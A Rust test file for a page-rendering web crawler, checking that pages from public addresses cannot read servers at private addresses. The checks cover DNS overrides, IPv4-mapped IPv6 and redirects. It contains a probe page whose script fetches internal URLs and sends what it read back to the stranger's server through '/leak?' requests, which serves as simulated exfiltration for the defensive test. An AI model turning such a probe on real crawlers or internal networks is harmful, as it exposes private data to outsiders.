//! What a rendered page learns of other hosts, by the logs of servers at public and private addresses of a network
//! namespace.

use crate::harness::{World, serve_each, succeeds, web};
use crate::{CYCLE, is_in_namespace, outcomes};
use std::collections::BTreeMap;
use std::net::TcpListener;
use std::process::Command;
use std::sync::{Arc, Mutex};

const PORT: u16 = 8080;
const STRANGER: &str = "9.9.9.9";
const PUBLIC: &str = "9.9.9.8";
const INSIDE: &str = "10.0.0.1";
/// Inside, and not in scope.
const APART: &str = "10.0.0.2";

/// Requests by host: method, target and the field Origin.
type Log = Arc<Mutex<BTreeMap<&'static str, Vec<(String, String, Option<String>)>>>>;

/// Serves at this address; `answer` gives the type, further fields and the body for a target. A field Location makes it
/// a redirect.
fn serve(
    host: &'static str,
    log: &Log,
    answer: impl Fn(&str) -> (&'static str, String, String) + Send + 'static,
) {
    let listener = TcpListener::bind((host, PORT)).unwrap();
    let log = log.clone();
    serve_each(listener, move |target, head| {
        let method = head.split(' ').next().unwrap_or_default();
        let origin = head.lines().find_map(|line| line.strip_prefix("origin: ")).map(str::to_owned);
        log.lock().unwrap().entry(host).or_default().push((method.into(), target.into(), origin));
        answer(target)
    });
}

/// A page that reads each of these URLs by every way to another origin, and tells its server what it read.
fn reader(urls: &[String]) -> String {
    let urls = urls.iter().map(|url| format!("'{url}'")).collect::<Vec<_>>().join(",");
    format!(
        "<!DOCTYPE html><p>a page</p><script>(async () => {{ const tell = (n, t) => fetch('/leak?' + n + '=' + encodeURIComponent(t)); \
         let n = 0; for (const url of [{urls}]) {{ const all = []; \
         for (const more of [{{}}, {{ mode: 'no-cors' }}, {{ headers: {{ 'x-app': '1' }} }}, {{ credentials: 'include' }}]) \
         all.push(await fetch(url, more).then(r => r.text(), () => '-')); \
         all.push(await new Promise(end => {{ const s = document.createElement('script'); s.src = url + 'script'; \
         s.onload = () => end('loaded'); s.onerror = () => end('-'); document.body.append(s) }})); \
         await tell(n++, all.join(' ')) }} }})()</script>"
    )
}

/// The stranger's server, the public one and the one inside consent to every origin: even so nothing inside is reached
/// from a page of the public Internet, and a page from inside reaches its own host and the public ones.
#[test]
fn private_addresses_are_reached_by_pages_from_private_addresses_alone() {
    if !is_in_namespace("origins::private_addresses_are_reached_by_pages_from_private_addresses_alone") {
        return;
    }
    for host in [STRANGER, PUBLIC, INSIDE, APART] {
        let address = format!("{host}/32");
        succeeds(Command::new("ip").args(["address", "add", &address, "dev", "lo"]).output().unwrap());
    }
    let at = |host: &str| format!("http://{host}:{PORT}/");
    let log = Log::default();
    let consent = || "Access-Control-Allow-Origin: *\r\nAccess-Control-Allow-Headers: x-app\r\n".to_owned();
    let asked: Vec<String> = [INSIDE, "inside.test", "10.0.0.9", "none.test", "[::ffff:10.0.0.1]", PUBLIC]
        .map(|host| at(host))
        .into_iter()
        .chain([format!("{}hop", at(STRANGER))])
        .collect();
    let page = reader(&asked);
    serve(STRANGER, &log, move |target| match target {
        "/" => ("text/html", String::new(), page.clone()),
        "/hop" | "/hopscript" => {
            ("text/html", format!("Location: http://{INSIDE}:{PORT}/hopped\r\n"), String::new())
        }
        _ => ("text/plain", consent(), "noted".into()),
    });
    serve(PUBLIC, &log, move |target| match target {
        "/script" => ("text/javascript", consent(), "1".into()),
        _ => ("text/plain", consent(), "public".into()),
    });
    let page = reader(&[at(INSIDE), at(APART), at(PUBLIC)]);
    for host in [INSIDE, APART] {
        let page = page.clone();
        serve(host, &log, move |target| match target {
            "/page" => ("text/html", String::new(), page.clone()),
            "/script" => ("text/javascript", consent(), "1".into()),
            target if target.starts_with("/leak") => ("text/plain", consent(), "noted".into()),
            _ => ("text/plain", consent(), "secret".into()),
        });
    }
    let extra = format!(
        "{CYCLE}[[pages]]\nmatch = \"*\"\nrender = true\n[crawler]\ncontact = \"tests@mock.test\"\n\
         [scope]\nhosts = [\"{STRANGER}\", \"{INSIDE}\"]\n[fetch]\nallow_addresses = [\"10.0.0.0/8\"]\n\
         [dns]\nservers = [\"127.0.0.1:9\"]\n[dns.overrides]\n\"inside.test\" = \"{INSIDE}\"\n[storage]\narchive = false\n"
    );
    let world = World::new(web(3, 1), &extra);
    let pages = [at(STRANGER), format!("{}page", at(INSIDE))];
    world.seeds(&pages);
    world.crawl(1);
    let outcomes = outcomes(&world);
    assert!(pages.iter().all(|page| outcomes[page].0 == "fetched"), "{outcomes:?}");
    let log = log.lock().unwrap();
    let leaks = |host: &str| -> Vec<String> {
        let targets = log[host].iter().filter_map(|(_, target, _)| target.strip_prefix("/leak?"));
        targets.map(|leak| leak.replace("%20", " ")).collect()
    };
    let nothing = |n: usize| format!("{n}=- - - - -");
    let expected: Vec<String> =
        (0..5).map(nothing).chain(["5=public - public - loaded".into(), nothing(6)]).collect();
    assert_eq!(leaks(STRANGER), expected, "{log:?}");
    assert_eq!(
        leaks(INSIDE),
        ["0=secret secret secret secret loaded", &nothing(1), "2=public - public - loaded"]
    );
    assert!(!log.contains_key(APART), "{log:?}");
    // What the page from inside asked for of its own host, and nothing else.
    let inside: Vec<&str> = log[INSIDE]
        .iter()
        .map(|(_, target, _)| target.as_str())
        .filter(|t| !t.starts_with("/leak"))
        .collect();
    assert_eq!(inside, ["/robots.txt", "/page", "/", "/", "/", "/", "/script"]);
    let origins: Vec<_> = log[PUBLIC]
        .iter()
        .map(|(method, target, origin)| (&**method, &**target, origin.as_deref()))
        .collect();
    assert!(origins.contains(&("OPTIONS", "/", Some("http://9.9.9.9:8080"))), "{origins:?}");
    assert!(origins.contains(&("GET", "/", Some("http://10.0.0.1:8080"))), "{origins:?}");
    assert!(origins.iter().all(|(_, target, origin)| origin.is_some() || *target != "/"), "{origins:?}");
}
